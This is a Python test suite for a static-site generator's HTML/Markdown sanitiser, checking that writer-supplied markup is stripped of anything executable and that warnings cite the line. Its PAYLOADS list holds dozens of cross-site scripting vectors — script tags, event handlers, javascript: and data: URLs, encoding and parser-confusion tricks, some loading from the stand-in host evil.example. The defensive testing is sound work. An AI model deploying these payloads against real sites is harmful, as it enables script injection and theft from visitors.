"""What a writer types as HTML: prose passes, what could act does not, and the warning says where it was."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import html

from plugins.engine.documents import MARK
from plugins.markup.sanitise import TAGS
from tests.markup.markdown import body_of, html_of, tree_of
from tests.sites import Build, post

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' style='x:expression(1)'>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<body onload=alert(1)><html onclick=x>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details><video onerror=alert(1)><source onerror=alert(1)></video>",
    "<p style='background:url(//evil.example)'>x</p>",
    "x\n{: onclick='alert(1)' style='x' }",
    "[x](u){: onclick=alert(1) href=javascript:alert(1) }",
    '<a title="><img src=x onerror=alert(1)>">x</a>',
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```x"onmouseover="alert(1)\ncode\n```',
    "## <script>alert(1)</script> heading {#x onclick=alert(1)}",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<template><script>alert(1)</script></template>",
    "<div markdown=1 onclick=x><script>alert(1)</script></div>",
    '*[x]: y" onclick="alert(1)\n\nx',
    "A[^1]\n\n[^1]: <script>alert(1)</script>",
    "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=y>",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "> x\n> — <img src=x onerror=alert(1)>",
    '!video [x" onclick="y](https://youtu.be/abcdefghijk"onclick="x)',
    "&#26;0&#26; &#x1a;table&#x1a;",
    "\x1a0\x1a \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
]
URLS = ("href", "src", "poster", "cite", "data-embed")


def assert_harmless(tree: html.HtmlElement) -> None:
    for each in tree.iterdescendants():
        assert each.tag in TAGS, each.tag
        for name, value in each.attrib.items():
            assert not name.startswith("on"), name
            assert name not in {"style", "srcdoc", "formaction", "action", "xlink:href"}
            if name in URLS:
                scheme = "".join(value.split()).casefold()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), value


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_does_nothing(payload: str, build_site: Build) -> None:
    assert_harmless(tree_of(payload))
    built = build_site({"posts/a.md": post(body=payload)})
    assert built.code == 0, built.errors
    (prose,) = html.document_fromstring(built.post("a")).xpath("//div[@class='prose']")
    (ours,) = prose.xpath(".//link")
    assert ours.get("href").startswith("/assets/late.")
    ours.drop_tree()
    assert_harmless(prose)


TAG_PIECES = [
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<!--",
    "-->",
    "<b",
    ">",
    "<a href=",
    "</a>",
    '"',
    "'",
    "&#26;",
]
MARK_PIECES = [
    "\n\n",
    "> ",
    "- ",
    "    ",
    "```",
    "**",
    "[",
    "](",
    ")",
    "{:",
    "}",
    "|",
    "##",
    "[^1]:",
    "\x1a",
    "x",
]
PIECES = st.lists(st.sampled_from([*PAYLOADS, *TAG_PIECES, *MARK_PIECES]), max_size=10).map("".join)


@given(PIECES)
@example("<![if foo]>")
def test_pieces_of_payloads_do_nothing_and_never_break_the_build(text: str) -> None:
    body = body_of(text)
    assert_harmless(tree_of(text))
    marks = body.text.html.split(MARK)[1::2]
    assert all(not mark.isdigit() or int(mark) < len(body.refs) for mark in marks)
    assert sorted(int(mark) for mark in marks if mark.isdigit()) == list(range(len(body.refs)))


@given(st.text(max_size=300))
def test_any_text_becomes_a_body(text: str) -> None:
    assert_harmless(html.fromstring(f"<main>{html_of(text)}</main>"))


def test_prose_passes() -> None:
    typed = '<p class="x" lang="de">a <abbr title="b">c</abbr> <time datetime="2025-01-01">e</time></p>'
    assert html_of(typed).strip() == typed


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("A.\n\n<script>x</script>", "6: warning: <script> was left out of the page. A post has"),
        (
            "<iframe src='https://a.example'></iframe>",
            "4: warning: <iframe> was left out of the page. Put the",
        ),
        ("A.\n\n<svg></svg>", "6: warning: <svg> was left out of the page. Save the drawing as a file"),
        ("<style>x</style>", "4: warning: <style> was left out of the page. The theme has the styles."),
        ("<form></form>", "4: warning: <form> was left out of the page. Write it in Markdown."),
    ],
)
def test_what_is_left_out_is_said_with_its_line(text: str, line: str) -> None:
    (problem,) = body_of(text).problems
    assert str(problem).startswith(f"content/x.md:{line}")


def test_words_about_tags_in_code_are_no_problem() -> None:
    assert not body_of("`<script>` and\n\n```html\n<script>x</script>\n```").problems


def test_straight_quotes_are_set_in_text_and_not_in_code() -> None:
    assert html_of('"a" `"b"` it\'s') == '<p>“a” <code>"b"</code> it’s</p>'


def test_typography_can_be_switched_off(build_site: Build) -> None:
    built = build_site({"posts/a.md": post(body='"a" -- b')}, MARKUP={"typographic": False})
    assert '<p>"a" -- b</p>' in built.post("a")


@pytest.mark.parametrize(
    "text",
    [
        '<p><a href="/x# onmouseover=alert(1) x=">k</a></p>\n\n<div title="&#&#26;26;0&#&#26;26;">X</div>',
        '<p><a href="/x# onmouseover=alert(1) x=">k</a></p>\n\n<div title="&#26;0&#26;">X</div>',
        "<div>&#&#26;26;77&#&#26;26;</div>",
        f"hello &#{'9' * 5000};",
    ],
)
def test_nobody_can_write_one_of_our_marks(text: str, build_site: Build) -> None:
    body = body_of(text)
    assert body.text.html.count(MARK) == 2 * len(body.refs)
    built = build_site({"posts/a.md": post(body=text)})
    assert "Traceback" not in built.errors
    for element in html.document_fromstring(built.post("a")).iter():
        assert not any(str(name).startswith("on") for name in element.attrib)


@pytest.mark.parametrize("sign", ["[", "![", "[a](", "<a "])
def test_thousands_of_open_brackets_are_a_problem(sign: str) -> None:
    found = body_of("One.\n\n" + sign * 50_000).problems
    assert [(problem.line, problem.level) for problem in found] == [(6, "error")]
    assert "that are never closed" in found[0].what


def test_open_brackets_in_code_are_none() -> None:
    body = body_of(f"One.\n\n```\n{'[(' * 1_000}\n\n{'<' * 1_000}\n```\n\nTwo.")
    assert not body.problems
    assert "Two." in body.text.html
